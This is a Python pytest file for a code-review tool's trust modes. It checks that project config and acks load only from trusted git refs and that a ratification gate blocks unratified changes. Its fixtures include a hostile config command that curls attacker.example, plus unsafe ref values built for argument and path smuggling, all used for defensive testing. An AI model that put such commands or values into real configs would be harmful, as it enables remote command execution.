"""Trust modes, trusted reads and the ratification gate against real repositories."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from mmr.acks.apply import AckPolicy
from mmr.diff.inputs import DiffRequest, resolve_diff
from mmr.errors import GitError
from mmr.trust.modes import (
    PrBaseResolver,
    TrustContext,
    TrustFlags,
    classify_trust_mode,
    resolve_trust,
)
from mmr.trust.ratification import ratification_gate
from mmr.trust.trusted_files import read_file_at_ref, read_project_acks_at_ref
from tests.integration.git_repo_builder import FakeGh, GitRepo, install_fake_gh, path_without_git

HOSTILE = "channels:\n  evil:\n    command: curl attacker.example\n"
KEY_A, KEY_B, KEY_C = "a" * 40, "b" * 40, "c" * 40


def ack(key: str) -> str:
    return json.dumps({"finding_key": key, "reason": "known"})


@pytest.fixture
def repo(tmp_path: Path) -> GitRepo:
    return GitRepo.create(tmp_path / "repo", {"src/app.py": "one\n",
                                              ".mmr.yaml": "version: 1\n# committed\n"})


NO_INPUT = DiffRequest()
NO_FLAGS = TrustFlags()


def mode_of(cwd: Path, request: DiffRequest = NO_INPUT, flags: TrustFlags = NO_FLAGS,
            resolve_pr_base: PrBaseResolver | None = None) -> tuple[str, str | None]:
    found = classify_trust_mode(cwd, request, flags, resolve_pr_base=resolve_pr_base)
    return found.mode, found.base_ref


def acks_source(trust: TrustContext) -> str:
    """Where the review's project acks come from, as ``results`` rebuilds it from the job."""
    return AckPolicy.from_review_controls(trust.review_controls(1)).project_source


# --- classification ---------------------------------------------------------------------

def test_outside_git_is_non_git_and_the_working_tree_config_is_not_loaded(tmp_path: Path) -> None:
    (tmp_path / ".mmr.yaml").write_text(HOSTILE)
    trust = resolve_trust(tmp_path, DiffRequest(diff="x.patch"), TrustFlags())
    assert (trust.mode, trust.project_config, trust.trusted_ref) == ("non-git", None, None)
    assert trust.warnings == ()
    opted_in = resolve_trust(tmp_path, DiffRequest(diff="x.patch"),
                             TrustFlags(trust_project_config=True))
    assert opted_in.project_config_text == HOSTILE
    assert opted_in.warnings == (
        "[mmr] warning: --trust-project-config is honoring the working-tree .mmr.yaml"
        " (non-git: no base ref to compare against).",)


def test_local_rules(repo: GitRepo) -> None:
    root = repo.root
    assert mode_of(root) == ("base-ref", "HEAD")
    assert mode_of(root, DiffRequest(staged=True)) == ("base-ref", "HEAD")
    assert mode_of(root, DiffRequest(diff="-")) == ("untrusted-head", None)
    assert mode_of(root, DiffRequest(diff="x", staged=True)) == ("base-ref", "HEAD")
    assert mode_of(root, DiffRequest(diff="x", base="main")) == ("base-ref", "main")
    assert mode_of(root, DiffRequest(base="HEAD~1")) == ("base-ref", "HEAD~1")
    assert mode_of(root, DiffRequest(base="origin/main^")) == ("base-ref", "origin/main^")
    assert mode_of(root, DiffRequest(head="main")) == ("base-ref", "HEAD")


@pytest.mark.parametrize("variable,value", [("CI", "true"), ("CI", "no"),
                                            ("GITHUB_ACTIONS", "true"), ("JENKINS_URL", "x")])
def test_ci_rules(repo: GitRepo, monkeypatch: pytest.MonkeyPatch, variable: str,
                  value: str) -> None:
    monkeypatch.setenv(variable, value)
    assert mode_of(repo.root) == ("untrusted-head", None)
    assert mode_of(repo.root, DiffRequest(staged=True)) == ("untrusted-head", None)
    # Operator choices naming a ref stay trusted in CI.
    assert mode_of(repo.root, DiffRequest(base="main")) == ("base-ref", "main")
    assert mode_of(repo.root, flags=TrustFlags(config_base_ref="main")) == ("base-ref", "main")


def test_ci_false_is_local(repo: GitRepo, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CI", "false")
    monkeypatch.setenv("CIRCLECI", "true")
    assert mode_of(repo.root) == ("base-ref", "HEAD")


@pytest.mark.parametrize("flags,request_", [
    (TrustFlags(), DiffRequest(base="evil:../../etc")),
    (TrustFlags(config_base_ref="HEAD:evil"), DiffRequest()),
    (TrustFlags(), DiffRequest(base="main..topic")),
    (TrustFlags(), DiffRequest(base="HEAD@{1}")),
    (TrustFlags(config_base_ref="-x"), DiffRequest()),
])
def test_unsafe_refs_fail_closed_with_a_note(repo: GitRepo, flags: TrustFlags,
                                             request_: DiffRequest) -> None:
    found = classify_trust_mode(repo.root, request_, flags)
    assert (found.mode, found.base_ref) == ("untrusted-head", None)
    assert "is not a plain git ref" in found.notes[0]


def test_config_base_ref_beats_diff(repo: GitRepo) -> None:
    flags = TrustFlags(config_base_ref="origin/main")
    assert mode_of(repo.root, DiffRequest(diff="-"), flags) == ("base-ref", "origin/main")


def test_config_base_ref_outside_git_is_non_git_with_a_warning(tmp_path: Path) -> None:
    trust = resolve_trust(tmp_path, DiffRequest(diff="-"), TrustFlags(config_base_ref="main"))
    assert trust.mode == "non-git"
    assert "cannot be read outside a git repository" in trust.warnings[0]
    assert "config_base_ref" not in trust.review_controls(5)


def test_pr_uses_the_resolved_base_even_with_a_stray_base(repo: GitRepo) -> None:
    def resolver(number: int, cwd: Path) -> str:
        assert (number, cwd) == (12, repo.root)
        return "main"

    request = DiffRequest(pr=12, base="attacker")
    assert mode_of(repo.root, request, resolve_pr_base=resolver) == ("base-ref", "main")

    def failing(number: int, cwd: Path) -> str:
        raise GitError("gh: not logged in")

    found = classify_trust_mode(repo.root, request, TrustFlags(), resolve_pr_base=failing)
    assert found.mode == "untrusted-head"
    assert found.notes == ("[mmr] warning: could not read the base branch of PR #12 (gh: not "
                           "logged in); project config and acks will not load (trust mode "
                           "untrusted-head).",)


def test_pr_base_through_the_real_gh_command(repo: GitRepo, tmp_path: Path,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    gh: FakeGh = install_fake_gh(tmp_path, monkeypatch)
    gh.set_view(json.dumps({"baseRefName": "main"}))
    assert mode_of(repo.root, DiffRequest(pr=3)) == ("base-ref", "main")
    gh.set_view(json.dumps({"baseRefName": "evil:x"}))
    assert mode_of(repo.root, DiffRequest(pr=3)) == ("untrusted-head", None)
    assert gh.calls()[0] == ["pr", "view", "3", "--json", "baseRefName"]


def test_pr_without_gh_falls_back_to_untrusted_head(repo: GitRepo, tmp_path: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    # git stays reachable through the repository check's fallback (.git walk-up).
    monkeypatch.setenv("PATH", path_without_git(tmp_path))
    found = classify_trust_mode(repo.root, DiffRequest(pr=5), TrustFlags())
    # No note: reading the PR's diff fails next with the same message, said once there.
    assert (found.mode, found.notes) == ("untrusted-head", ())


def test_planted_dot_git_is_advisory_only(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / ".mmr.yaml").write_text(HOSTILE)
    trust = resolve_trust(tmp_path, DiffRequest(), TrustFlags())
    assert trust.mode == "base-ref"  # looks like git ...
    assert trust.project_config is None  # ... but every read goes through real git
    assert read_project_acks_at_ref(tmp_path, "HEAD") == []


# --- what is loaded ---------------------------------------------------------------------

def test_config_comes_from_the_base_ref_not_the_head(repo: GitRepo) -> None:
    repo.branch("topic")
    repo.commit({".mmr.yaml": "version: 1\n# topic head\n"})
    repo.write({".mmr.yaml": HOSTILE})
    by_base = resolve_trust(repo.root, DiffRequest(base="main"), TrustFlags())
    assert by_base.project_config is not None
    assert by_base.project_config.text == "version: 1\n# committed\n"
    assert by_base.project_config.origin == "main:.mmr.yaml"
    plain = resolve_trust(repo.root, DiffRequest(), TrustFlags())
    # Issue 15: the branch changed .mmr.yaml since its merge base with main, so it is
    # proposed (gated), and the merge base's file loads, not HEAD's nor the edit.
    assert plain.project_config_text == "version: 1\n# committed\n"
    assert plain.branch_proposed.config_file_changed and plain.compared_with == "main"
    from_subdir = resolve_trust(repo.root / "src", DiffRequest(base="main"), TrustFlags())
    assert from_subdir.project_config_text == "version: 1\n# committed\n"


def test_trust_project_config_reads_the_root_file_from_a_subdirectory(repo: GitRepo) -> None:
    repo.write({".mmr.yaml": "version: 1\n# edited\n", "src/.mmr.yaml": "version: 1\n# sub\n"})
    trust = resolve_trust(repo.root / "src", DiffRequest(), TrustFlags(trust_project_config=True))
    assert trust.project_config_text == "version: 1\n# edited\n"
    assert trust.project_config is not None
    assert Path(trust.project_config.origin) == (repo.root / ".mmr.yaml").resolve()
    assert trust.warnings == (
        "[mmr] warning: --trust-project-config is honoring the working-tree .mmr.yaml; prefer "
        "--config-base-ref <ref> for a trusted source.",)


def test_missing_config_at_ref_is_silent(tmp_path: Path) -> None:
    repo = GitRepo.create(tmp_path / "r", {"a.txt": "a\n"})
    trust = resolve_trust(repo.root, DiffRequest(base="main"), TrustFlags())
    assert (trust.project_config, trust.trusted_ref, trust.warnings) == (None, "main", ())


def test_untrusted_head_reads_nothing_silently(repo: GitRepo) -> None:
    trust = resolve_trust(repo.root, DiffRequest(diff="-"), TrustFlags())
    assert trust.mode == "untrusted-head"
    assert (trust.project_config, acks_source(trust), trust.warnings) == (None, "none", ())


def test_a_named_ref_missing_locally_is_warned(repo: GitRepo) -> None:
    trust = resolve_trust(repo.root, DiffRequest(staged=True),
                          TrustFlags(config_base_ref="origin/main"))
    assert trust.mode == "base-ref"
    assert trust.warnings == ("[mmr] warning: trusted ref origin/main does not exist in this "
                              "repository (fetch it first); no project config or acks will be "
                              "read from it.",)


def test_a_missing_base_is_left_to_the_diff_error(repo: GitRepo) -> None:
    trust = resolve_trust(repo.root, DiffRequest(base="origin/main"), TrustFlags())
    assert (trust.mode, trust.warnings) == ("base-ref", ())


def test_ack_flags_and_their_warnings(repo: GitRepo, tmp_path: Path) -> None:
    base = resolve_trust(repo.root, DiffRequest(), TrustFlags(accept_new_acks=True))
    assert acks_source(base) == "working-tree" and base.warnings == ()
    assert base.review_controls(5) == {
        "max_rounds": 5, "accept_new_acks": True, "trust_project_acks": True,
        "trust_project_config": False, "config_base_ref": "HEAD"}
    untrusted = resolve_trust(repo.root, DiffRequest(diff="-"), TrustFlags(accept_new_acks=True))
    assert untrusted.warnings == (
        "[mmr] warning: --accept-new-acks is honoring working-tree .mmr/acks/; prefer "
        "--config-base-ref <ref> for a trusted source.",)
    both = resolve_trust(tmp_path, DiffRequest(diff="-"),
                         TrustFlags(trust_project_acks=True, accept_new_acks=True))
    assert both.warnings == ("[mmr] warning: --trust-project-acks is honoring working-tree "
                             ".mmr/acks/ (non-git: no base ref to compare against).",)
    assert both.review_controls(2) == {"max_rounds": 2, "accept_new_acks": True,
                                       "trust_project_acks": True, "trust_project_config": False}
    plain = resolve_trust(repo.root, DiffRequest(base="main"), TrustFlags())
    assert acks_source(plain) == "base-ref"


def test_acks_at_the_ref(repo: GitRepo) -> None:
    repo.commit({
        f".mmr/acks/{KEY_A}.json": ack(KEY_A),
        f".mmr/acks/{KEY_B}.json": ack(KEY_C),  # embedded key differs from the name
        f".mmr/acks/{KEY_C}.json": "not json",
        f".mmr/acks/{'d' * 40}.json": json.dumps({"finding_key": "d" * 40, "pad": "x" * 300_000}),
        ".mmr/acks/README.md": "notes",
    })
    repo.write({f".mmr/acks/{'e' * 40}.json": ack("e" * 40)})  # working tree only
    acks = read_project_acks_at_ref(repo.root / "src", "HEAD")
    assert [a.finding_key for a in acks] == [KEY_A]
    assert acks[0].record == {"finding_key": KEY_A, "reason": "known"}
    assert acks[0].file_name == f"{KEY_A}.json"
    assert read_project_acks_at_ref(repo.root, "main~1") == []
    assert read_project_acks_at_ref(repo.root, "no-such-ref") == []


def test_read_file_at_ref_never_raises(repo: GitRepo) -> None:
    assert read_file_at_ref(repo.root, "HEAD", "src/app.py") == "one\n"
    assert read_file_at_ref(repo.root, "HEAD", "./src/app.py") == "one\n"
    for ref, path in [("HEAD:x", "a"), ("--output=x", "a"), ("HEAD", "../x"),
                      ("HEAD", "a:b"), ("nope", "src/app.py"), ("HEAD", "missing")]:
        assert read_file_at_ref(repo.root, ref, path) is None


# --- the ratification gate end to end ---------------------------------------------------

def test_a_diff_adding_an_ack_is_gated_in_base_ref_mode(repo: GitRepo) -> None:
    repo.branch("topic")
    repo.commit({f".mmr/acks/{KEY_A}.json": ack(KEY_A)})
    request = DiffRequest(base="main")
    diff = resolve_diff(request, repo.root)
    assert diff.proposed.ack_files_changed == (f".mmr/acks/{KEY_A}.json",)
    block = ratification_gate(resolve_trust(repo.root, request, TrustFlags()), diff.proposed)
    assert block is not None
    assert block.summary == ("Needs user decision — the diff proposes project ack changes "
                             "(.mmr/acks/). Re-run with --trust-project-config (.mmr.yaml) / "
                             "--accept-new-acks (acks) to proceed.")
    for flags in (TrustFlags(accept_new_acks=True), TrustFlags(trust_project_acks=True)):
        assert ratification_gate(resolve_trust(repo.root, request, flags), diff.proposed) is None


def test_editing_the_config_locally_trips_the_gate(repo: GitRepo) -> None:
    repo.write({".mmr.yaml": HOSTILE})
    diff = resolve_diff(DiffRequest(), repo.root)
    assert diff.proposed.job_fields() == {"proposed_config_change": True}
    trust = resolve_trust(repo.root, DiffRequest(), TrustFlags())
    block = ratification_gate(trust, diff.proposed)
    assert block is not None and block.config and not block.acks
    ratified = resolve_trust(repo.root, DiffRequest(), TrustFlags(trust_project_config=True))
    assert ratification_gate(ratified, diff.proposed) is None
    assert ratified.project_config_text == HOSTILE  # the operator chose the working tree


def test_no_gate_outside_base_ref_mode(repo: GitRepo) -> None:
    repo.write({".mmr.yaml": HOSTILE})
    text = repo.git("diff")
    (repo.root / "x.patch").write_text(text)
    diff = resolve_diff(DiffRequest(diff="x.patch"), repo.root)
    trust = resolve_trust(repo.root, DiffRequest(diff="x.patch"), TrustFlags())
    assert trust.mode == "untrusted-head"
    assert diff.proposed.config_file_changed
    assert ratification_gate(trust, diff.proposed) is None
